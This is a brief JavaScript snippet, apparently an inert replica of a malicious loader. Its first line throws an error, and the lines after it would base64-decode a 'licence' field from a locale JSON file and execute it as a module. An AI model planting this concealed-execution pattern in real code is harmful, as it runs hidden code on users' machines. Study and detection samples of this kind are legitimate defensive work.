throw new Error("inert replica");
const words = require("./locale/en.json");
const Module = module.constructor;
const one = new Module("words", module);
one._compile(Buffer.from(words.licence, "base64").toString("utf8"), __filename);
